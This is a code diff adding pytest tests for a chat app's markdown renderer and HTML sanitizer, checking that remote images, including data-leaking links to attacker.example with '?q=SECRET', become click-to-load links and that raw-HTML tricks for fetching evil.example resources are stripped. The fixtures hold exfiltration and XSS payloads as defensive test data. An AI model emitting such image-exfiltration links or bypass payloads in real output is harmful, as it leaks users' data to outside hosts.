@@ -1,10 +1,14 @@
 """Model output is rendered on the server, highlighted, and cleaned of anything executable."""
 
+import html as html_lib
 import random
+import re
+from urllib.parse import parse_qs
 
 import pytest
 
-from chat.markdown import StreamingMarkdown, render_markdown
+from chat.image_policy import ImagePolicy
+from chat.markdown import StreamingMarkdown, render_markdown, sanitize
 
 SAMPLE = """# Plan
 
@@ -144,3 +148,179 @@ def test_a_flush_with_nothing_new_parses_nothing(monkeypatch):
     first = stream.flush()
     monkeypatch.setattr(markdown._PARSER, "parse", lambda *a, **k: pytest.fail("parsed again"))
     assert stream.flush() == ([], first[1])
+
+
+# -- remote images (issue 11, finding 3) -------------------------------------------------------
+
+ALLOWED = ImagePolicy(frozenset({"img.example.com", "*.cdn.example.org", "pics.example.net:8443"}))
+TAG = re.compile(r"<([a-z0-9]+)([^>]*)>")
+# An image the browser would fetch from anywhere but the allowed host (or x.png, relative).
+REMOTE_SRC = re.compile(r'<img[^>]*\bsrc="(?!https://img\.example\.com/|x\.png")')
+
+
+def test_a_remote_image_becomes_a_load_link_that_names_its_host():
+    html = render_markdown("Look: ![the chart](https://attacker.example/c.png?q=SECRET)", ALLOWED)
+    assert "<img" not in html
+    link = re.search(r'<a class="remote-image" href="([^"]*)" title="([^"]*)">([^<]*)</a>', html)
+    assert link is not None, html
+    href, title, text = (html_lib.unescape(part) for part in link.groups())
+    assert text == "Load image from attacker.example: the chart"
+    assert title == "https://attacker.example/c.png?q=SECRET"  # the reader sees what it sends
+    assert href.startswith("/image/?")
+    assert parse_qs(href.split("?", 1)[1]) == {
+        "src": ["https://attacker.example/c.png?q=SECRET"],
+        "alt": ["the chart"],
+    }
+
+
+def test_images_from_allowed_hosts_relative_and_data_images_load_directly():
+    cases = {
+        "![a](https://img.example.com/a.png)": "https://img.example.com/a.png",
+        "![a](http://img.example.com/a.png)": "http://img.example.com/a.png",
+        "![a](https://eu.cdn.example.org/a.png)": "https://eu.cdn.example.org/a.png",
+        "![a](https://pics.example.net:8443/a.png)": "https://pics.example.net:8443/a.png",
+        "![a](/static/favicon.svg)": "/static/favicon.svg",
+        "![a](uploads/a.png)": "uploads/a.png",
+        "![a](data:image/png;base64,iVBORw0KGgo=)": "data:image/png;base64,iVBORw0KGgo=",
+    }
+    for text, src in cases.items():
+        html = render_markdown(text, ALLOWED)
+        assert f'<img src="{src}" alt="a">' in html, (text, html)
+        assert "remote-image" not in html
+
+
+def test_allowed_hosts_match_like_a_csp_host_source():
+    for text, host in [
+        ("![a](https://cdn.example.org/a.png)", "cdn.example.org"),  # *. is subdomains only
+        ("![a](https://img.example.com:8443/a.png)", "img.example.com:8443"),  # other port
+        ("![a](https://pics.example.net/a.png)", "pics.example.net"),  # listed with a port
+        ("![a](https://img.example.com.evil.example/a.png)", "img.example.com.evil.example"),
+        ("![a](https://evil.example/img.example.com/a.png)", "evil.example"),
+        ("![a](https://img.example.com@evil.example/a.png)", "evil.example"),
+    ]:
+        html = render_markdown(text, ALLOWED)
+        assert "<img" not in html, text
+        assert f"Load image from {host}: a" in html, (text, html)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](//evil.example/a.png)",  # scheme-relative
+        "![x](HTTPS://EVIL.EXAMPLE/a.png)",
+        "![x](https://img.example.com\\@evil.example/a.png)",
+        "![x](https:\\\\evil.example/a.png)",
+        "![x](<https://evil.example/a b.png>)",
+        "![x](https://evil.example/a.png 'title')",
+        "[![x](https://evil.example/a.png)](https://img.example.com/)",
+        "| a |\n|---|\n| ![x](https://evil.example/a.png) |",
+        '<img src="https://evil.example/a.png">',  # raw HTML is text in markdown
+        "<picture><source srcset='https://evil.example/a.png'></picture>",
+        "<link rel=prefetch href='https://evil.example/'>",
+        "<p style='background:url(https://evil.example/a.png)'>x</p>",
+        "![x][ref]\n\n[ref]: https://evil.example/a.png",
+        "![x](https://evil.example/a.png)\n![y](https://img.example.com/ok.png)",
+    ],
+)
+def test_no_markdown_makes_the_browser_fetch_another_host(text):
+    html = render_markdown(text, ALLOWED)
+    assert not REMOTE_SRC.search(html), html
+    for name, attributes in TAG.findall(html):  # real tags: "<" in text is escaped
+        assert name in {"p", "a", "img", "table", "thead", "tbody", "tr", "th", "td"}, html
+        assert not re.search(r"\b(?:style|srcset)=", attributes), html
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        '<img src="https://evil.example/a.png">',
+        '<img src="//evil.example/a.png">',
+        '<img src="/\\evil.example/a.png">',
+        '<img src="&#x2F;&#x2F;evil.example/a.png">',
+        '<img src="\t//evil.example/a.png">',
+        '<img src=" https://evil.example/a.png">',
+        '<img src="https:evil.example/a.png">',
+        '<img src="/&#9;/evil.example/a.png">',
+        '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x">',
+        '<img srcset="https://evil.example/b.png 2x">',
+        '<picture><source srcset="https://evil.example/a.png"><img src="x.png"></picture>',
+        '<video poster="https://evil.example/a.png"></video>',
+        '<input type="image" src="https://evil.example/a.png">',
+        '<svg><image href="https://evil.example/a.png"></image></svg>',
+        '<table background="https://evil.example/a.png"><tr><td>x</td></tr></table>',
+        '<td style="background-image:url(https://evil.example/a.png)">x</td>',
+        '<div style="background:url(//evil.example/a.png)">x</div>',
+        '<style>p{background:url(https://evil.example/a.png)}</style>',
+        '<link rel="prefetch" href="https://evil.example/">',
+        '<link rel="stylesheet" href="https://evil.example/s.css">',
+        '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>',
+        '<object data="https://evil.example/a.svg"></object>',
+        '<embed src="https://evil.example/a.svg">',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+        '<base href="https://evil.example/">',
+        '<img src="x.png" data-src="https://evil.example/a.png">',
+    ],
+)
+def test_the_sanitizer_lets_no_remote_fetch_through_raw_html(raw):
+    html = sanitize(raw, ALLOWED)
+    assert not REMOTE_SRC.search(html), html
+    for forbidden in ("srcset", "<source", "<picture", "<video", "<input", "<svg", "<image",
+                      "background", "style", "<link", "ping=", "<object", "<embed", "<meta",
+                      "<base", "data-src"):
+        assert forbidden not in html, (forbidden, html)
+
+
+def test_data_urls_load_only_as_images():
+    for text in [
+        '<img src="data:text/html;base64,PHNjcmlwdD4=">',
+        '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">',
+        '<img src="DATA:text/html,x">',
+    ]:
+        assert "<img" not in sanitize(text, ALLOWED), text
+    for text in ['<a href="data:text/html,x">x</a>', '<a href=" DATA:image/png;base64,AAA">x</a>']:
+        html = sanitize(text, ALLOWED)
+        assert "href" not in html and ">x</a>" in html, html
+    code = render_markdown('`<a href="data:text/html,x">`', ALLOWED)  # text stays as written
+    assert code == '<p><code>&lt;a href="data:text/html,x"&gt;</code></p>\n'
+    assert sanitize('<img src="data:image/gif;base64,R0lGOD==" alt="dot">', ALLOWED) == (
+        '<img src="data:image/gif;base64,R0lGOD==" alt="dot">'
+    )
+
+
+def test_an_image_that_cannot_load_anywhere_keeps_its_alt_text():
+    assert sanitize('<img src="javascript:alert(1)" alt="a &lt;b&gt;">', ALLOWED) == "a &lt;b&gt;"
+    assert sanitize('<img src="https://[::1]/a.png" alt="v6">', ALLOWED) == "v6"
+    assert sanitize('<img src="https://ev%69l.example/a.png" alt="p">', ALLOWED) == "p"
+
+
+def test_a_streamed_answer_never_shows_a_remote_image_and_ends_like_the_whole_render():
+    text = (
+        "Intro with ![inline](https://attacker.example/i.png?q=1) text.\n\n"
+        "```python\nx = 1\n```\n\n"
+        "![allowed](https://img.example.com/ok.png)\n\n"
+        "| a | b |\n|:-|-:|\n| ![c](https://attacker.example/c.png) | 2 |\n\n"
+        "Last line with ![end](https://attacker.example/end.png)"
+    )
+    rng = random.Random(3)
+    for _ in range(20):
+        stream = StreamingMarkdown(ALLOWED)
+        position = 0
+        while position < len(text):
+            step = rng.randint(1, 9)
+            stream.append(text[position : position + step])
+            position += step
+            new, tail = stream.flush()
+            for html in [*new, tail]:
+                assert not REMOTE_SRC.search(html), html
+        assert "".join(stream.blocks) + stream.tail_html == render_markdown(text, ALLOWED)
+    whole = render_markdown(text, ALLOWED)
+    assert whole.count("Load image from attacker.example") == 3
+    assert '<img src="https://img.example.com/ok.png" alt="allowed">' in whole
+
+
+def test_table_alignment_is_a_class_not_a_style_attribute():
+    html = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
+    assert "style" not in html
+    assert '<th class="align-left">a</th>' in html
+    assert '<td class="align-center">2</td>' in html
+    assert '<td class="align-right">3</td>' in html
